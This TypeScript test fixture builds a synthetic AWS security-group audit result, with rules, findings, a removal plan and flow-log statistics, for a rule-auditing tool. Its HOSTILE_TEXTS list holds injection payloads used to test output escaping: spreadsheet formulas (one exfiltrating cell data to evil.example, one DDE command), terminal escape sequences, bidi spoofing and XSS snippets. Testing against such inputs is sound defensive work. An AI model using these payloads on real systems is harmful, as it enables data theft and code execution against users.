import { type AuditedPolicy, type AuditedRule, type AuditResult, auditResultSchema } from '../../src/model/audit-result.ts';
import type { Finding, Grade, Reason } from '../../src/model/finding.ts';

/** Text an attacker could put into a rule name, a comment or a log field: formulas, terminal sequences, bidi, HTML, Markdown, JSON, CSV. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '%0A=1+1',
  '|calc',
  '\t=1+1',
  '\r=1',
  '\n=1+1',
  ' =1+1',
  '\ufeff=1+1',
  '\u200b\u2060=1+1',
  '"=1+1',
  "'\u201c=1",
  '\uff1d1+1',
  '\uff0b1',
  '\uff20A1',
  '\u001b[31m=1+1',
  '\u202e=1+1',
  '\u001b]0;owned\u0007title',
  '\u009b31mred',
  '\u001bc\u001b[2J',
  'user\u202egnp.exe',
  'a\u0000b\u0007\u0008',
  '</script><script>window.hacked=1</script>',
  '<img src=x onerror="window.hacked=2">',
  '"><svg onload=window.hacked=3>',
  '<!--<script>',
  ']]>',
  '\u2028\u2029',
  'a|b|c',
  '`code` **bold** [x](javascript:alert(1))',
  '<b>@team</b> #1 https://evil.example www.evil.example',
  '__proto__',
  'constructor',
  'a,b;"c"\r\nd',
  '\ud800 lone',
  '{{7*7}} ${7*7}',
  'x'.repeat(400),
];

const WINDOW = { from: '2026-01-01T00:00:00Z', to: '2026-04-11T00:00:00Z', days: 100 } as const;

/** A three-tier VPC as an audit would report it: small enough to read, with every standing, most kinds, gaps, and hostile names. */
export function auditResultFixture(): AuditResult {
  const policies = [webIn(), appIn(), dbIn(), forgottenIn(), subnetAcl(), hostileIn()];
  return auditResultSchema.parse({
    schemaVersion: 1,
    complete: true,
    incompleteBecause: [],
    tool: { name: 'rulesweep', version: '0.1.0' },
    asOf: WINDOW.to,
    window: WINDOW,
    inputs: [
      input('rules', 'exports/2026-04-10/describe-security-groups.json', 31, 31, {}),
      input('rules', 'exports/2026-04-10/describe-network-acls.json', 6, 6, {}),
      input('inventory', 'exports/2026-04-10/describe-network-interfaces.json', 9, 9, {}),
      input('flows', 'logs/vpc-a/2026-01.log.gz', 68_112, 68_002, { NODATA: 108, MALFORMED: 2 }),
      input('flows', 'logs/vpc-a/2026-02.log.gz', 61_209, 61_190, { NODATA: 12, SKIPDATA: 7 }),
      input('flows', 'logs/vpc-a/2026-03.log.gz', 70_004, 69_990, { NODATA: 14 }),
    ],
    policies,
    findings: findings(),
    plan: plan(),
    traffic: traffic(),
    diagnostics: [
      {
        severity: 'warning',
        code: 'SKIPDATA',
        message: 'The platform lost records of eni-0db1 in 7 intervals; those hours count as not covered.',
        path: 'logs/vpc-a/2026-02.log.gz',
        count: 7,
      },
      {
        severity: 'warning',
        code: 'MALFORMED_RECORD',
        message: 'Line 4,112 has 13 fields; expected 14. It was skipped and counted.',
        path: 'logs/vpc-a/2026-01.log.gz',
        line: 4112,
        count: 2,
      },
      {
        severity: 'info',
        code: 'HOST_BITS',
        message: '"10.0.8.9/21" has host bits below its prefix; read as 10.0.8.0/21.',
        path: 'exports/2026-04-10/describe-security-groups.json',
      },
    ],
  });
}

/** The same rules audited without any log: no usage, no evidence, no usage finding. */
export function withoutTraffic(result: AuditResult): AuditResult {
  const usageKinds = ['unused', 'partly-unused', 'unanswered', 'low-use', 'scope-bloat', 'counter-disagreement'];
  return auditResultSchema.parse({
    ...result,
    asOf: null,
    window: null,
    traffic: null,
    inputs: result.inputs.filter((entry) => entry.role !== 'flows'),
    policies: result.policies.map((policy) => ({
      ...policy,
      defaultUsage: null,
      rules: policy.rules.map((rule) => ({ ...rule, usage: null, evidence: null })),
    })),
    findings: result.findings.filter((finding) => !usageKinds.includes(finding.kind)),
  });
}

/** A result with one policy of many generated rules, for paging and speed. Deterministic. */
export function largeAuditResult(ruleCount: number): AuditResult {
  const base = auditResultFixture();
  const rules = Array.from({ length: ruleCount }, (_, index) => {
    const isUsed = index % 3 !== 0;
    return rule(
      `sgr-${index.toString(16).padStart(8, '0')}`,
      index,
      `10.${(index >> 8) & 255}.${index & 255}.0/24`,
      `tcp/${1024 + (index % 40_000)}`,
      {
        ...(isUsed ? used(index + 1, index + 1) : silent('B', [])),
        description: `generated rule ${index}`,
      },
    );
  });
  const policy: AuditedPolicy = { ...webIn(), id: 'sg-large:in', name: 'large', rules };
  const findings = rules
    .filter((_, index) => index % 3 === 0)
    .map((item, index) =>
      finding(`${index}`, 'unused', 'low', policy.id, item.id, 'B', 'No connection in 100 days.', { usage: 'never-seen' }),
    );
  return {
    ...base,
    policies: [policy],
    findings,
    plan: { removals: [], bound: 0, merges: [], alternatives: [], notProposed: [], simplification: [] },
  };
}

type RuleExtra = Partial<AuditedRule>;

export function rule(id: string, rank: number, source: string, service: string, extra: RuleExtra): AuditedRule {
  return {
    id,
    rank,
    nativeId: id,
    ruleKey: `k-${id}`,
    name: '',
    description: '',
    asWritten: `ingress ${service} from ${source}`,
    action: 'permit',
    enabled: true,
    match: { source: [source], destination: ['any'], services: [service] },
    sourceRef: { path: 'exports/2026-04-10/describe-security-groups.json', pointer: `/SecurityGroups/0/IpPermissions/${rank}` },
    evaluable: 'full',
    opaque: [],
    owner: '',
    ticket: '',
    createdAt: null,
    modifiedAt: null,
    documentedExpiry: '',
    inForceSince: '2025-12-31T18:00:00Z',
    ageSource: 'export',
    deviceHits: null,
    decides: null,
    witness: null,
    overlap: null,
    usage: null,
    evidence: null,
    native: { groupId: 'sg-0web' },
    ...extra,
  };
}

export function used(certain: number, possible: number): RuleExtra {
  return {
    usage: {
      certain,
      possible,
      sole: [Math.floor(certain / 2), certain],
      answered: Math.floor(certain * 0.98),
      asResponse: 0,
      records: certain * 3,
      packets: String(certain * 22),
      bytes: String(certain * 14_801),
      firstHit: '2026-01-01T00:04:11Z',
      lastHit: '2026-04-10T23:51:02Z',
      activeDays: Math.min(100, certain),
      attachmentsUsed: 2,
      attachmentsTotal: 2,
    },
    evidence: { grade: 'U', reasons: [], coverage: '0.9812', effectiveDays: 98, emptyHourCells: [], maxDailyRate95: null },
  };
}

export function silent(grade: Grade, reasons: readonly Reason[], possible = 0): RuleExtra {
  return {
    usage: {
      certain: 0,
      possible,
      sole: [0, 0],
      answered: 0,
      asResponse: 0,
      records: 0,
      packets: '0',
      bytes: '0',
      firstHit: null,
      lastHit: null,
      activeDays: 0,
      attachmentsUsed: 0,
      attachmentsTotal: 2,
    },
    evidence: {
      grade,
      reasons: [...reasons],
      coverage: grade === 'D' ? '0.4107' : '0.9812',
      effectiveDays: grade === 'D' ? 21 : 98,
      emptyHourCells: [],
      maxDailyRate95: grade === 'D' ? '0.1427' : '0.0306',
    },
  };
}

function policyOf(id: string, name: string, nativeId: string, attachments: string[] | null, rules: AuditedRule[]): AuditedPolicy {
  return {
    id,
    name,
    format: 'aws-sg',
    evaluation: 'any-permit',
    stateful: true,
    defaultAction: 'deny',
    direction: 'in',
    account: '123456789012',
    network: 'vpc-0a1b2c3d',
    nativeId,
    attachments,
    attachmentsKnown: true,
    rules,
    defaultUsage: attachments === null || attachments.length > 0 ? (used(4_120, 4_120).usage ?? null) : null,
  };
}

function webIn(): AuditedPolicy {
  return policyOf(
    'sg-0web:in',
    'web',
    'sg-0web',
    ['eni-0web1', 'eni-0web2'],
    [
      rule('sgr-0https', 0, '0.0.0.0/0', 'tcp/443', {
        ...used(48_211, 48_213),
        description: 'public https',
        owner: 'web-team',
        ticket: 'NET-101',
      }),
      rule('sgr-0http', 1, '0.0.0.0/0', 'tcp/80', { ...used(9_120, 9_120), description: 'redirect to https', owner: 'web-team' }),
      rule('sgr-0https2', 2, '0.0.0.0/0', 'tcp/443', { ...used(48_211, 48_213) }),
      rule('sgr-0ssh', 3, '0.0.0.0/0', 'tcp/22', { ...used(311, 311), description: 'temporary, remove after migration' }),
      rule('sgr-0rdp', 4, '203.0.113.0/24', 'tcp/3389', {
        ...silent('B', []),
        description: 'old vendor access',
        ticket: 'NET-077',
        modifiedAt: '2024-05-02T10:00:00Z',
      }),
      rule('sgr-0icmp', 5, '10.0.0.0/8', 'icmp/8', { ...silent('I', ['ICMP_TYPE_UNSEEN'], 41) }),
    ],
  );
}

function appIn(): AuditedPolicy {
  return policyOf(
    'sg-0app:in',
    'app',
    'sg-0app',
    ['eni-0app1', 'eni-0app2'],
    [
      rule('sgr-0web-app', 0, 'sg-0web', 'tcp/8080', { ...used(41_770, 41_770), description: 'from web tier' }),
      rule('sgr-0ports', 1, '10.0.0.0/16', 'tcp/8000-8999', { ...used(1_004, 42_774), description: 'app ports' }),
      rule('sgr-0gone', 2, 'sg-0deleted', 'tcp/9000', { ...silent('D', ['STALE_REFERENCE']), description: 'old batch runner' }),
      rule('sgr-0dr', 3, '10.99.0.0/16', 'tcp/8080', {
        ...silent('C', ['SEASONAL_TAG', 'AGE_UNKNOWN']),
        description: 'DR failover, tested once a year',
        inForceSince: null,
        ageSource: null,
      }),
      rule('sgr-0pl', 4, 'pl-0unknown', 'tcp/443', {
        ...silent('I', ['UNRESOLVED_REF'], 118),
        evaluable: 'partial',
        opaque: ['pl-0unknown'],
      }),
      rule('sgr-0new', 5, '10.4.0.0/16', 'tcp/8443', {
        ...silent('D', ['SHORT_WINDOW', 'MODIFIED_IN_WINDOW']),
        createdAt: '2026-03-20T08:00:00Z',
      }),
    ],
  );
}

function dbIn(): AuditedPolicy {
  return policyOf(
    'sg-0db:in',
    'db',
    'sg-0db',
    ['eni-0db1'],
    [
      rule('sgr-0pg', 0, 'sg-0app', 'tcp/5432', { ...used(22_410, 22_410), description: 'postgres from app' }),
      rule('sgr-0mysql', 1, '10.0.0.0/16', 'tcp/3306', {
        ...silent('B', []),
        description: 'mysql, before the move to postgres',
        owner: 'dba',
      }),
      rule('sgr-0any', 2, '0.0.0.0/0', 'any', { ...used(12, 22_422), description: '' }),
    ],
  );
}

function forgottenIn(): AuditedPolicy {
  return policyOf(
    'sg-0old:in',
    'legacy-batch',
    'sg-0old',
    [],
    [
      rule('sgr-0old1', 0, '10.0.0.0/8', 'any', { ...silent('I', ['NO_ATTACHMENT']), description: 'batch 2019' }),
      rule('sgr-0old2', 1, '192.168.0.0/16', 'tcp/22', { ...silent('I', ['NO_ATTACHMENT']) }),
    ],
  );
}

function subnetAcl(): AuditedPolicy {
  const acl = policyOf(
    'acl-0db:in',
    'db subnet',
    'acl-0db',
    ['eni-0db1'],
    [
      rule('100', 0, '10.0.0.0/16', 'tcp/5432', { ...used(22_410, 22_410) }),
      rule('110', 1, '0.0.0.0/0', 'tcp/1024-65535', {
        ...used(8_002, 8_002),
        evidence: {
          grade: 'U',
          reasons: ['RETURN_ONLY'],
          coverage: '0.9312',
          effectiveDays: 92,
          emptyHourCells: [3],
          maxDailyRate95: null,
        },
      }),
      rule('120', 2, '198.51.100.0/24', 'any', { ...silent('D', []), action: 'deny', description: '' }),
    ],
  );
  return { ...acl, format: 'aws-nacl', evaluation: 'first-match', stateful: false };
}

/** One rule per hostile text, in its name, comment, owner and addresses. */
function hostileIn(): AuditedPolicy {
  return policyOf(
    'sg-0evil:in',
    '<script>window.hacked=9</script>',
    'sg-0evil',
    ['eni-0web1'],
    HOSTILE_TEXTS.map((hostile, index) =>
      rule(`sgr-0evil${index}`, index, `192.0.2.${index}`, 'tcp/443', {
        ...silent('I', ['OPAQUE_CONDITION'], 3),
        name: hostile,
        description: hostile,
        asWritten: hostile,
        owner: hostile,
        evaluable: 'partial',
        opaque: [hostile],
      }),
    ),
  );
}

function findings(): Finding[] {
  return [
    finding(
      '01',
      'duplicate',
      'medium',
      'sg-0web:in',
      'sgr-0https2',
      'P',
      'Same match and effect as sg-0web:in/sgr-0https, which is kept because it has a description.',
      {
        relation: 'same',
        coveredBy: [{ policy: 'sg-0web:in', rule: 'sgr-0https', packets: '72057594037927936', share: '1' }],
        removal: { changesDecisions: false, safeAlone: true },
      },
    ),
    finding(
      '02',
      'unused',
      'high',
      'sg-0web:in',
      'sgr-0rdp',
      'B',
      'No connection in 100 days on 2 interfaces with 98.1 % coverage; remote desktop from 203.0.113.0/24.',
      { usage: 'never-seen' },
    ),
    finding('03', 'partly-unused', 'low', 'sg-0app:in', 'sgr-0ports', 'B', 'Of tcp/8000-8999 only 8080 and 8443 carried traffic.', {
      unusedParts: [{ axis: 'service', values: ['tcp/8000-8079', 'tcp/8081-8442', 'tcp/8444-8999'], usedValues: ['tcp/8080', 'tcp/8443'] }],
    }),
    finding(
      '04',
      'stale-reference',
      'medium',
      'sg-0app:in',
      'sgr-0gone',
      'P',
      'Refers to sg-0deleted, which the export of the same account proves to be gone.',
      { removal: { changesDecisions: false, safeAlone: true } },
    ),
    finding(
      '05',
      'unused',
      'low',
      'sg-0app:in',
      'sgr-0dr',
      'C',
      'No connection in 100 days, but the comment speaks of disaster recovery and nothing says how old the rule is.',
      { usage: 'never-seen' },
    ),
    finding(
      '06',
      'not-evaluable',
      'info',
      'sg-0app:in',
      'sgr-0pl',
      'I',
      'The prefix list pl-0unknown is not in the exports; add get-managed-prefix-list-entries.',
      {},
    ),
    finding(
      '07',
      'unused',
      'medium',
      'sg-0db:in',
      'sgr-0mysql',
      'B',
      'No connection in 100 days on the only interface, 93.1 % to 98.1 % coverage.',
      { usage: 'never-seen', status: 'known' },
    ),
    finding('08', 'unattached', 'medium', 'sg-0old:in', 'sgr-0old1', 'C', 'legacy-batch is on none of the 9 interfaces inspected.', {}),
    finding('09', 'unattached', 'low', 'sg-0old:in', 'sgr-0old2', 'C', 'legacy-batch is on none of the 9 interfaces inspected.', {
      status: 'accepted',
    }),
    ...HOSTILE_TEXTS.slice(0, 6).map((hostile, index) =>
      finding(
        `e${index}`,
        'not-evaluable',
        'info',
        'sg-0evil:in',
        `sgr-0evil${index}`,
        'I',
        `The condition "${hostile}" cannot be computed.`,
        {},
      ),
    ),
  ];
}

export function finding(
  id: string,
  kind: Finding['kind'],
  severity: Finding['severity'],
  policy: string,
  ruleId: string,
  grade: Grade,
  explanation: string,
  extra: Partial<Finding>,
): Finding {
  return {
    id: `F-${id
      .split('')
      .map((character) => character.charCodeAt(0).toString(16))
      .join('')
      .padStart(16, '0')}`,
    kind,
    policy,
    rule: ruleId,
    severity,
    status: 'new',
    coveredBy: [],
    witness: null,
    proof: null,
    evidence: { grade, reasons: [] },
    removal: { changesDecisions: true, safeAlone: true },
    explanation,
    ...extra,
  };
}

function plan(): AuditResult['plan'] {
  const because = (index: number): string[] => [findings()[index]?.id ?? ''];
  return {
    removals: [
      {
        policy: 'sg-0web:in',
        rule: 'sgr-0https2',
        because: because(0),
        effect: 'none',
        flowsAffected: 0,
        coveredBy: [],
        rationale: {
          change: 'Remove the second copy of https from anywhere.',
          signal: 'duplicate',
          confidence: 'P: proven by configuration',
          authority: 'rulesweep 0.1.0, class autonomous-with-log',
        },
      },
      {
        policy: 'sg-0app:in',
        rule: 'sgr-0gone',
        because: because(3),
        effect: 'none',
        flowsAffected: 0,
        coveredBy: [],
        rationale: {
          change: 'Remove the rule whose peer is gone.',
          signal: 'stale-reference',
          confidence: 'P: proven by configuration',
          authority: 'rulesweep 0.1.0, class post-hoc review',
        },
      },
    ],
    bound: 2,
    merges: [],
    alternatives: [],
    notProposed: [
      {
        policy: 'sg-0web:in',
        rule: 'sgr-0rdp',
        because: because(1),
        reason: 'NEEDS_STAGED_CHANGE',
        detail: 'Grade B: disable, observe, then delete.',
      },
      {
        policy: 'sg-0app:in',
        rule: 'sgr-0ports',
        because: because(2),
        reason: 'NARROWING',
        detail: 'Would narrow tcp/8000-8999 to 8080 and 8443.',
      },
      {
        policy: 'sg-0app:in',
        rule: 'sgr-0dr',
        because: because(4),
        reason: 'WEAK_EVIDENCE',
        detail: 'Grade C: the window is shorter than 400 days.',
      },
      {
        policy: 'sg-0db:in',
        rule: 'sgr-0mysql',
        because: because(6),
        reason: 'NEEDS_STAGED_CHANGE',
        detail: 'Grade B: disable, observe, then delete.',
      },
      {
        policy: 'sg-0old:in',
        rule: 'sgr-0old1',
        because: because(7),
        reason: 'POLICY_UNATTACHED',
        detail: 'Decide on the whole group sg-0old.',
      },
    ],
    simplification: [],
  };
}

function traffic(): AuditResult['traffic'] {
  return {
    records: 199_325,
    accepted: 199_182,
    skippedByReason: { NODATA: 134, SKIPDATA: 7, MALFORMED: 2 },
    connections: 131_020,
    unattributable: 212,
    unattributableAttachments: ['eni-0lambda'],
    unexplained: 37,
    outsideWindow: 0,
    unexplainedFlows: [
      {
        attachment: 'eni-0db1',
        direction: 'in',
        flow: 'tcp 10.0.3.9:* -> 10.0.2.10:6379',
        loggedAction: 'accept',
        connections: 31,
        reason: 'accepted, but no rule permits it',
      },
      {
        attachment: 'eni-0app1',
        direction: 'in',
        flow: 'tcp 10.0.1.4:* -> 10.0.2.4:8080',
        loggedAction: 'reject',
        connections: 6,
        reason: 'rejected, but sg-0app:in/sgr-0web-app permits it',
      },
    ],
    conservation: [
      {
        attachment: 'eni-0web1',
        direction: 'in',
        policies: ['sg-0web:in', 'sg-0evil:in'],
        connections: 61_000,
        sole: 9_431,
        shared: 48_211,
        denied: 3_358,
        unexplained: 0,
        decidedElsewhere: 120,
        earlierRules: 4,
        undecided: 11,
      },
      {
        attachment: 'eni-0app1',
        direction: 'in',
        policies: ['sg-0app:in'],
        connections: 43_400,
        sole: 41_780,
        shared: 994,
        denied: 620,
        unexplained: 6,
        decidedElsewhere: 0,
        earlierRules: 0,
        undecided: 2,
      },
      {
        attachment: 'eni-0db1',
        direction: 'in',
        policies: ['sg-0db:in'],
        connections: 22_595,
        sole: 22_410,
        shared: 12,
        denied: 142,
        unexplained: 31,
        decidedElsewhere: 0,
        earlierRules: 0,
        undecided: 0,
      },
    ],
    coverage: [
      { attachment: 'eni-0app1', known: true, coverage: '0.9971', daysWithData: 100, skippedHours: 0, emptyHourCells: [], gaps: [] },
      {
        attachment: 'eni-0app2',
        known: true,
        coverage: '0.9812',
        daysWithData: 99,
        skippedHours: 0,
        emptyHourCells: [],
        gaps: [{ from: '2026-03-02T04:00:00Z', to: '2026-03-03T22:00:00Z' }],
      },
      {
        attachment: 'eni-0db1',
        known: true,
        coverage: '0.9312',
        daysWithData: 95,
        skippedHours: 7,
        emptyHourCells: [3],
        gaps: [
          { from: '2026-02-03T10:00:00Z', to: '2026-02-08T09:00:00Z' },
          { from: '2026-03-20T00:00:00Z', to: '2026-03-21T12:00:00Z' },
          { from: '2026-01-11T03:00:00Z', to: '2026-01-11T09:00:00Z' },
        ],
      },
      {
        attachment: 'eni-0lambda',
        known: false,
        coverage: '0.4107',
        daysWithData: 44,
        skippedHours: 0,
        emptyHourCells: [0, 1, 2, 3, 4, 5],
        gaps: [{ from: '2026-01-01T00:00:00Z', to: '2026-02-24T00:00:00Z' }],
      },
      { attachment: 'eni-0web1', known: true, coverage: '1', daysWithData: 100, skippedHours: 0, emptyHourCells: [], gaps: [] },
      {
        attachment: 'eni-0web2',
        known: true,
        coverage: '0.9812',
        daysWithData: 99,
        skippedHours: 0,
        emptyHourCells: [],
        gaps: [{ from: '2026-01-19T08:00:00Z', to: '2026-01-21T06:00:00Z' }],
      },
    ],
  };
}

function input(
  role: 'rules' | 'flows' | 'inventory',
  path: string,
  records: number,
  accepted: number,
  skippedByReason: Record<string, number>,
): AuditResult['inputs'][number] {
  const digest = [...path]
    .reduce((hash, character) => (hash * 33 + character.charCodeAt(0)) >>> 0, 5381)
    .toString(16)
    .padStart(8, '0');
  return {
    role,
    path,
    sha256: digest.repeat(8),
    format: role === 'flows' ? 'aws-vpc-flow-logs' : 'aws',
    at: role === 'flows' ? null : '2026-04-10T18:00:00Z',
    records,
    accepted,
    skipped: records - accepted,
    skippedByReason,
  };
}
